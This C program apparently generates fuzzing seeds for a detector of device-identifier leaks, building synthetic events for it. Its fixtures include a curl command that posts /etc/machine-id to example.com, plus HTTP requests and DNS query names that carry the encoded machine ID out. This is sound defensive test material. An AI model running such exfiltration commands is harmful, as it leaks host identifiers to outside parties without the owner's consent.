// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* gen_seeds: writes the binary seeds of fuzz_events and fuzz_match, built from the real ABI. */
#define _GNU_SOURCE
#include <errno.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <netinet/in.h>

#include "idsentry.h"

#define MACHINE_ID "4c4c4544004a5710804bb4c04f565631\n"
#define MACHINE_ID_B64 "NGM0YzQ1NDQwMDRhNTcxMDgwNGJiNGMwNGY1NjU2MzE="

/* One fuzz input being assembled: u16 little-endian size, then the record, per record. */
struct stream {
	unsigned char buf[65536];
	size_t len;
};

static const char *outdir;

static void put_record(struct stream *s, const void *rec, size_t size)
{
	if (s->len + 2 + size > sizeof(s->buf)) {
		fprintf(stderr, "gen_seeds: stream too long\n");
		exit(1);
	}
	s->buf[s->len++] = size & 0xff;
	s->buf[s->len++] = size >> 8;
	memcpy(s->buf + s->len, rec, size);
	s->len += size;
}

static void write_seed(const char *target, const char *name, const void *data, size_t len)
{
	char path[4096];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s/%s", outdir, target, name);
	f = fopen(path, "wb");
	if (!f || fwrite(data, 1, len, f) != len || fclose(f)) {
		fprintf(stderr, "gen_seeds: cannot write '%s': %s\n", path, strerror(errno));
		exit(1);
	}
}

static void header(struct event_header *h, __u32 type, const char *comm)
{
	h->type = type;
	h->tgid = 4242;
	h->tid = 4242;
	h->uid = 1000;
	h->ts_ns = 123456789000ULL;
	strncpy(h->comm, comm, sizeof(h->comm) - 1);
}

static size_t ident_read(struct ident_read_event *e, __u64 mask, const char *value)
{
	size_t n = strlen(value);

	memset(e, 0, sizeof(*e));
	header(&e->hdr, EVENT_IDENT_READ, "curl");
	e->ident_mask = mask;
	e->dev = 0x803;
	e->ino = 131090;
	e->len = n;
	e->total = n;
	e->source = SOURCE_FILE;
	e->call = CALL_READ;
	memcpy(e->data, value, n);
	return offsetof(struct ident_read_event, data) + n;
}

static size_t send_v4(struct send_event *e, __u64 mask, const char *sample, __u32 call)
{
	size_t n = strlen(sample);

	memset(e, 0, sizeof(*e));
	header(&e->hdr, EVENT_SEND, "curl");
	e->taint_mask = mask;
	e->taint_ns = 123000000000ULL;
	e->result = n;
	e->call = call;
	e->fd = 5;
	e->family = AF_INET;
	e->sock_type = SOCK_STREAM;
	e->protocol = IPPROTO_TCP;
	e->dport = 443;
	e->daddr[0] = 203, e->daddr[1] = 0, e->daddr[2] = 113, e->daddr[3] = 7;
	e->flags = SEND_DEST_FROM_SOCKET;
	e->sample_len = n;
	memcpy(e->sample, sample, n);
	return offsetof(struct send_event, sample) + n;
}

static void proc_info(struct proc_info_event *e)
{
	static const char argv[] = "curl\0-d\0@/etc/machine-id\0https://example.com/";

	memset(e, 0, sizeof(*e));
	header(&e->hdr, EVENT_PROC_INFO, "curl");
	e->ppid = 1;
	e->start_ns = 120000000000ULL;
	strcpy(e->exe_parts[0], "curl");
	strcpy(e->exe_parts[1], "bin");
	strcpy(e->exe_parts[2], "usr");
	memcpy(e->cmdline, argv, sizeof(argv));
	e->cmdline_len = sizeof(argv);
}

/* A DNS message (RFC 1035) with one question and, for a response, an A and an AAAA answer. */
static size_t dns_message(unsigned char *m, const char *qname, int response)
{
	static const unsigned char answers[] = {
		0xc0, 12, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, 203, 0, 113, 7,
		0xc0, 12, 0, 28, 0, 1, 0, 0, 0x0e, 0x10, 0, 16,
		0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1,
	};
	const char *label = qname, *dot;
	size_t n = 12;

	memset(m, 0, 12);
	m[0] = 0x12, m[1] = 0x34;
	m[2] = response ? 0x81 : 0x01, m[3] = response ? 0x80 : 0;
	m[5] = 1;
	m[7] = response ? 2 : 0;
	for (;;) {
		dot = strchr(label, '.');
		m[n] = dot ? (size_t)(dot - label) : strlen(label);
		memcpy(m + n + 1, label, m[n]);
		n += 1 + m[n];
		if (!dot)
			break;
		label = dot + 1;
	}
	m[n++] = 0;
	m[n++] = 0, m[n++] = 1, m[n++] = 0, m[n++] = 1; /* type A, class IN */
	if (response) {
		memcpy(m + n, answers, sizeof(answers));
		n += sizeof(answers);
	}
	return n;
}

static size_t flow(struct flow_event *e, __u32 tgid, __u16 direction, __u64 chan, __u64 mask,
		   const char *sample)
{
	size_t n = sample ? strlen(sample) : 0;

	memset(e, 0, sizeof(*e));
	header(&e->hdr, EVENT_FLOW, direction == FLOW_WRITE ? "cat" : "sh");
	e->hdr.tgid = e->hdr.tid = tgid;
	e->ident_mask = mask;
	e->taint_ns = 123000000000ULL;
	e->channel = chan;
	e->peer_tgid = 4242;
	e->kind = CHANNEL_PIPE;
	e->direction = direction;
	e->sample_len = n;
	if (n)
		memcpy(e->sample, sample, n);
	return offsetof(struct flow_event, sample) + n;
}

static void gen_events(void)
{
	static union {
		struct ident_read_event read;
		struct send_event send;
		struct proc_info_event info;
		struct proc_exit_event exit;
		struct flow_event flow;
		struct proc_fork_event fork;
	} e;
	static struct stream s;
	size_t n;
	int i;

	n = ident_read(&e.read, 1, MACHINE_ID);
	s.len = 0;
	put_record(&s, &e, n);
	write_seed("events", "ident-read", s.buf, s.len);

	n = send_v4(&e.send, 1, "GET /?id=" MACHINE_ID_B64 " HTTP/1.1\r\n", CALL_WRITE);
	s.len = 0;
	put_record(&s, &e, n);
	write_seed("events", "send-v4", s.buf, s.len);

	n = send_v4(&e.send, 2, "", CALL_CONNECT);
	e.send.family = AF_INET6;
	e.send.protocol = IPPROTO_UDP;
	e.send.sock_type = SOCK_DGRAM;
	memset(e.send.daddr, 0, sizeof(e.send.daddr));
	e.send.daddr[10] = e.send.daddr[11] = 0xff;
	e.send.daddr[12] = 127, e.send.daddr[15] = 1;
	s.len = 0;
	put_record(&s, &e, n);
	write_seed("events", "connect-v4mapped", s.buf, s.len);

	proc_info(&e.info);
	s.len = 0;
	put_record(&s, &e, sizeof(e.info));
	write_seed("events", "proc-info", s.buf, s.len);
	/* every exe part full: the path is cut, and the kernel's NULs are not trusted */
	for (i = 0; i < EXE_PATH_PARTS; i++)
		memset(e.info.exe_parts[i], 'a' + i, EXE_PART_BYTES);
	s.len = 0;
	put_record(&s, &e, sizeof(e.info));
	write_seed("events", "proc-info-long-exe", s.buf, s.len);

	memset(&e, 0, sizeof(e));
	header(&e.exit.hdr, EVENT_PROC_EXIT, "curl");
	e.exit.taint_mask = 3;
	s.len = 0;
	put_record(&s, &e, sizeof(e.exit));
	write_seed("events", "proc-exit", s.buf, s.len);

	/* One leak's data path: who, what was read, what was sent (in several encodings), exit. */
	s.len = 0;
	proc_info(&e.info);
	put_record(&s, &e, sizeof(e.info));
	n = ident_read(&e.read, 1, MACHINE_ID);
	put_record(&s, &e, n);
	n = ident_read(&e.read, 2, "52:54:00:12:34:56\n");
	put_record(&s, &e, n);
	n = ident_read(&e.read, 4, "To Be Filled By O.E.M.\n");
	put_record(&s, &e, n);
	n = send_v4(&e.send, 3, "id=4C4C4544004A5710804BB4C04F565631&mac=52-54-00-12-34-56",
		    CALL_SENDTO);
	put_record(&s, &e, n);
	n = send_v4(&e.send, 3, "{\"m\":\"525400123456\",\"h\":\"" MACHINE_ID_B64 "\"}",
		    CALL_SSL_WRITE);
	e.send.flags |= SEND_SAMPLE_TRUNCATED;
	put_record(&s, &e, n);
	memset(&e, 0, sizeof(e));
	header(&e.exit.hdr, EVENT_PROC_EXIT, "curl");
	put_record(&s, &e, sizeof(e.exit));
	write_seed("events", "leak-sequence", s.buf, s.len);

	/* Go's crypto/tls: plaintext from (*Conn).Write without a destination, the TLS record that
	 * carries it, then close_notify on the same socket (tlspair pairs, then marks). */
	s.len = 0;
	proc_info(&e.info);
	put_record(&s, &e, sizeof(e.info));
	n = ident_read(&e.read, 1, MACHINE_ID);
	put_record(&s, &e, n);
	n = send_v4(&e.send, 1, "POST / HTTP/1.1\r\n\r\n{\"device\":\"" MACHINE_ID "\"}",
		    CALL_GO_TLS_WRITE);
	e.send.family = 0;
	e.send.dport = 0;
	e.send.flags = 0;
	memset(e.send.daddr, 0, sizeof(e.send.daddr));
	put_record(&s, &e, n);
	n = send_v4(&e.send, 1, "\x17\x03\x03\x01\x40 ciphertext", CALL_WRITE);
	put_record(&s, &e, n);
	n = send_v4(&e.send, 1, "\x17\x03\x03\x01\x13 close_notify", CALL_WRITE);
	put_record(&s, &e, n);
	write_seed("events", "go-tls-sequence", s.buf, s.len);

	/* A full-size sample, the largest record the kernel sends, leaking at its very end. */
	s.len = 0;
	n = ident_read(&e.read, 1, MACHINE_ID);
	put_record(&s, &e, n);
	send_v4(&e.send, 1, "", CALL_WRITEV);
	memset(e.send.sample, 'x', MAX_SAMPLE_BYTES);
	memcpy(e.send.sample + MAX_SAMPLE_BYTES - strlen(MACHINE_ID), MACHINE_ID,
	       strlen(MACHINE_ID));
	e.send.sample_len = MAX_SAMPLE_BYTES;
	e.send.flags |= SEND_SAMPLE_TRUNCATED;
	put_record(&s, &e, sizeof(e.send));
	write_seed("events", "send-full-sample", s.buf, s.len);

	/* A resolver's answer, then a send to the address it gave. */
	s.len = 0;
	send_v4(&e.send, 1, "", CALL_RECVFROM);
	e.send.hdr.type = EVENT_RECV;
	e.send.protocol = IPPROTO_UDP;
	e.send.sock_type = SOCK_DGRAM;
	e.send.dport = 53;
	e.send.sample_len = dns_message(e.send.sample, "collect.example.com", 1);
	put_record(&s, &e, offsetof(struct send_event, sample) + e.send.sample_len);
	n = ident_read(&e.read, 1, MACHINE_ID);
	put_record(&s, &e, n);
	n = send_v4(&e.send, 1, "POST / HTTP/1.1\r\n\r\n" MACHINE_ID, CALL_WRITE);
	put_record(&s, &e, n);
	write_seed("events", "dns-answer-then-send", s.buf, s.len);

	/* The value leaving in a query name, over UDP and over TCP (with its length first). */
	s.len = 0;
	n = ident_read(&e.read, 1, MACHINE_ID);
	put_record(&s, &e, n);
	send_v4(&e.send, 1, "", CALL_SENDTO);
	e.send.protocol = IPPROTO_UDP;
	e.send.sock_type = SOCK_DGRAM;
	e.send.dport = 53;
	e.send.sample_len =
		dns_message(e.send.sample, "4c4c4544004a5710.804bb4c04f565631.x.example", 0);
	put_record(&s, &e, offsetof(struct send_event, sample) + e.send.sample_len);
	send_v4(&e.send, 1, "", CALL_WRITE);
	e.send.dport = 53;
	n = dns_message(e.send.sample + 2, "4c4c4544004a5710804bb4c04f565631.example.com", 0);
	e.send.sample[0] = n >> 8, e.send.sample[1] = n & 0xff;
	e.send.sample_len = n + 2;
	put_record(&s, &e, offsetof(struct send_event, sample) + e.send.sample_len);
	write_seed("events", "dns-query-leak", s.buf, s.len);

	/* cat reads the value into a pipe; sh reads it and forks curl, which sends it on. */
	s.len = 0;
	n = ident_read(&e.read, 1, MACHINE_ID);
	e.read.hdr.tgid = 100;
	put_record(&s, &e, n);
	n = flow(&e.flow, 100, FLOW_WRITE, 0xffff888004a1c000ULL, 1, MACHINE_ID);
	put_record(&s, &e, n);
	n = flow(&e.flow, 101, FLOW_READ, 0xffff888004a1c000ULL, 1, NULL);
	e.flow.peer_tgid = 100;
	put_record(&s, &e, n);
	memset(&e, 0, sizeof(e));
	header(&e.fork.hdr, EVENT_PROC_FORK, "sh");
	e.fork.hdr.tgid = 101;
	e.fork.child_tgid = 102;
	put_record(&s, &e, sizeof(e.fork));
	proc_info(&e.info);
	e.info.hdr.tgid = 102;
	e.info.ppid = 101;
	put_record(&s, &e, sizeof(e.info));
	n = flow(&e.flow, 102, FLOW_WRITE, 0xffff888004a1d000ULL, 1, "id=4c4c4544");
	e.flow.kind = CHANNEL_UNIX;
	put_record(&s, &e, n);
	n = flow(&e.flow, 103, FLOW_READ, 0xffff888004a1d000ULL, 1, NULL);
	e.flow.kind = CHANNEL_UNIX;
	put_record(&s, &e, n);
	n = send_v4(&e.send, 1, "GET /?id=" MACHINE_ID_B64, CALL_WRITE);
	e.send.hdr.tgid = 103;
	put_record(&s, &e, n);
	write_seed("events", "pipe-chain", s.buf, s.len);
}

static void gen_match(void)
{
	/* flags, split, then (length - 1, bytes) per pattern, then the text */
	static const unsigned char overlap[] = "\x03\x80" "\x01he" "\x02she" "\x03hers" "\x02his"
					       "ushershishe";
	static const unsigned char folded[] = "\x1a\x40" "\x02\x00\x01\x00" "\x00\x00"
					      "\x03\x01\x00\x01\x00"
					      "\x00\x01\x00\x01\x00\x02\x00\x01\x00\x01\x00\x00";
	static const unsigned char mac[] = "\x01\x7f" "\x0d" "52:54:00:12:34"
					   "\x0b" "525400123456"
					   "GET /?mac=52%3A54%3A00%3A12%3A34%3A56&m=525400123456";
	static const unsigned char binary[] = "\x00\xff" "\x05\x00\xff\x00\xff\x00\xff"
					      "\x00\x00\xff\x00\xff\x00\xff\x00\xff\xfe";

	/* the arrays' own NUL terminators are not part of the inputs */
	write_seed("match", "overlap", overlap, sizeof(overlap) - 1);
	write_seed("match", "folded", folded, sizeof(folded) - 1);
	write_seed("match", "mac", mac, sizeof(mac) - 1);
	write_seed("match", "binary", binary, sizeof(binary) - 1);
}

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: gen_seeds CORPUS_DIR (holding events/ and match/)\n");
		return 1;
	}
	outdir = argv[1];
	gen_events();
	gen_match();
	return 0;
}
